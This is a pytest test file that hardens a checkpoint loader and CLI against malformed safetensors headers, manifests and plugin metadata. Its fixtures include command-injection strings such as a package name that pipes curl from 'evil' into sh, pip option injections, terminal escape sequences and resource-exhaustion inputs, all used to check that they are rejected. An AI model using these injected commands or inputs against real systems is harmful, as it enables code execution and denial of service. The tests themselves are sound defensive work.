"""Checkpoints of anybody: whatever stands in a header or a manifest, reading it ends in one line and costs little."""

from __future__ import annotations

import json
import os
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from trunkzoo.catalogue.catalogue import Catalogue
from trunkzoo.checkpoint import load_agent, read_header
from trunkzoo.checkpoint.header import HEADER_START, read_safetensors_header
from trunkzoo.checkpoint.manifest import read_verified
from trunkzoo.errors import CheckpointError, ZooError
from trunkzoo_cli.app import main

DEEP = '{"a":' * 3000 + "1" + "}" * 3000
RECIPE = {"name": "n", "trunk": {"name": "tiny/trunk", "config": {}}, "head": {"name": "tiny/head", "config": {}}}


def put_header(path: Path, header: str) -> None:
    """Replace the header of a file, its tensors kept."""
    data = path.read_bytes()
    end = HEADER_START + int.from_bytes(data[:HEADER_START], "little")
    text = header.encode("utf-8", "surrogatepass")
    path.unlink()
    path.write_bytes(len(text).to_bytes(HEADER_START, "little") + text + data[end:])


def change(path: Path, /, tensor: Mapping[str, Any] | None = None, **metadata: str) -> None:
    """Change fields of the metadata, and of the first tensor."""
    old = read_safetensors_header(path)
    tensors = dict(old.tensors)
    first = next(iter(tensors))
    tensors[first] = {**tensors[first], **(tensor or {})}
    put_header(path, json.dumps({"__metadata__": old.metadata | metadata, **tensors}))


def inspected(path: Path, capsys: pytest.CaptureFixture[str], *options: str) -> tuple[int, str]:
    """Exit code of `zoo inspect` and what it prints."""
    with pytest.raises(SystemExit) as left:
        main(["inspect", str(path), *options])
    out, err = capsys.readouterr()
    assert isinstance(left.value.code, int)
    return left.value.code, out + err


@pytest.mark.parametrize(
    "header",
    [
        DEEP,
        "[" * 100_000,
        '{"__metadata__": {"format": "1"}, "a": {"dtype": "F32", "shape": [1e999], "data_offsets": [0, 4]}}',
        '{"__metadata__": {"format": "1"}, "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, Infinity]}}',
        '{"__metadata__": {"format": "1"}, "a": {"dtype": "F32", "shape": [1], "data_offsets": ["0", "4"]}}',
        '{"__metadata__": {"format": "1"}, "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 2, 4]}}',
        '{"__metadata__": {"format": "1"}, "a": {"dtype": "F32", "shape": [1], "data_offsets": [0.0, 4.0]}}',
        '{"__metadata__": {"format": "1"}, "a": {"dtype": [], "shape": [1], "data_offsets": [0, 4]}}',
        '{"__metadata__": {"format": "1"}, "\ud800": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}',
        '{"__metadata__": {"format": "1"}, "\\ud800": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}',
        '{"a": {"dtype": "F32", "shape": ' + str([1] * 100_000) + ', "data_offsets": [0, 4]}}',
        '{"a": ' + "9" * 5000 + "}",
        '{"a": null}',
        '{"__metadata__": {"format": "' + "1" * 5000 + '"}}',
        '{"__metadata__": {"format": "²"}}',
        '{"__metadata__": {"format": "-1"}}',
    ],
)
def test_a_header_of_another_shape_is_one_line(saved: Path, header: str, capsys: pytest.CaptureFixture[str]) -> None:
    put_header(saved, header)
    with pytest.raises(CheckpointError):
        read_verified(saved)
    code, text = inspected(saved, capsys)
    assert code == 1
    assert text.startswith("zoo: ")
    assert len(text.splitlines()) == 1


@pytest.mark.parametrize(
    "recipe",
    [
        {},
        {"name": "n"},
        RECIPE | {"head": None},
        RECIPE | {"trunk": "resnet"},
        RECIPE | {"trunk": {"name": "t", "config": [1]}},
        RECIPE | {"name": 3},
        [],
    ],
)
def test_a_recipe_of_other_types_is_one_line(saved: Path, recipe: Any, capsys: pytest.CaptureFixture[str]) -> None:
    change(saved, recipe=json.dumps(recipe))
    for options in ([], ["--json"], ["--tensors"]):
        code, text = inspected(saved, capsys, *options)
        assert code == 1
        assert "does not fit its schema" in text


@pytest.mark.parametrize("field", ["recipe", "contract", "plugins", "versions", "step"])
@pytest.mark.parametrize("text", [DEEP, "9" * 5000, "1e999", "NaN", "{", "[[]]", '"\\ud800"', ""])
def test_a_field_of_another_shape_is_one_line(saved: Path, tiny_catalogue: Catalogue, field: str, text: str) -> None:
    change(saved, None, **{field: text})
    with pytest.raises(CheckpointError):
        read_header(saved)
    with pytest.raises(ZooError):
        load_agent(saved, tiny_catalogue)


def test_escapes_of_a_header_are_written_out(saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
    recipe = json.loads(read_safetensors_header(saved).metadata["recipe"])
    recipe |= {"name": "\x1b[31mred\x9b2J\u202e", "trunk": {"name": "t", "config": {"\x1b": "\x07"}}}
    change(saved, {"dtype": "\x1b[0m"}, recipe=json.dumps(recipe))
    for options in ([], ["--json"], ["--tensors"]):
        code, text = inspected(saved, capsys, *options)
        assert code == 0
        assert all(line.isprintable() for line in text.split("\n"))
        assert r"[31mred" in text
    assert json.loads(inspected(saved, capsys, "--json")[1])["recipe"]["name"] == recipe["name"]


@pytest.mark.parametrize(
    ("distribution", "version"),
    [
        ("x'; curl evil|sh; '", "1"),
        ("--index-url", "1"),
        ("-rfile", "1"),
        ("x", "1'; sh; '"),
        ("x\ny", "1"),
        ("x @ http", "1"),
    ],
)
def test_a_line_to_paste_holds_only_names_of_packages(
    saved: Path, tiny_catalogue: Catalogue, distribution: str, version: str
) -> None:
    use = {"kind": "trunk", "id": "absent/x", "distribution": distribution, "version": version, "api": "1"}
    change(saved, plugins=json.dumps([use]))
    with pytest.raises(CheckpointError) as caught:
        load_agent(saved, tiny_catalogue)
    assert "pip install" not in str(caught.value)


@pytest.mark.parametrize("width", [16_000_000, 1 << 40])
@pytest.mark.parametrize("part", ["trunk", "head"])
def test_sizes_beyond_the_tensor_table_are_never_allocated(
    saved: Path, tiny_catalogue: Catalogue, part: str, width: int
) -> None:
    recipe = json.loads(read_safetensors_header(saved).metadata["recipe"])
    recipe[part]["config"]["width"] = width
    change(saved, recipe=json.dumps(recipe))
    with pytest.raises(CheckpointError, match="far more numbers than its tensors hold"):
        load_agent(saved, tiny_catalogue)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[]",
        DEEP,
        '{"files": 3}',
        '{"files": {"model.safetensors": {"bytes": "1", "checksum": 2}}}',
        "\x00",
        "9" * 5000,
    ],
)
def test_a_manifest_of_another_shape_is_one_line(saved: Path, text: str) -> None:
    (saved.parent / "manifest.json").write_text(text)
    with pytest.raises(CheckpointError, match="does not describe"):
        read_verified(saved)


def test_an_empty_file_with_a_manifest_is_one_line(saved: Path) -> None:
    (saved.parent / "manifest.json").write_text('{"files": {"model.safetensors": {"bytes": 0, "checksum": ""}}}')
    saved.write_bytes(b"")
    with pytest.raises(CheckpointError, match="cut short"):
        read_verified(saved)


def test_a_pipe_is_no_checkpoint(saved: Path) -> None:
    saved.unlink()
    os.mkfifo(saved)
    with pytest.raises(CheckpointError, match="not a regular file"):
        read_safetensors_header(saved)


@pytest.mark.parametrize("name", ["x" * 300, "a/" * 3000, "\x1b[31m", "half\udcff"])
def test_names_that_no_file_has_are_one_line(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, text = inspected(Path(name), capsys)
    assert code in (1, 2)
    assert "Traceback" not in text
    assert all(line.isprintable() for line in text.split("\n"))
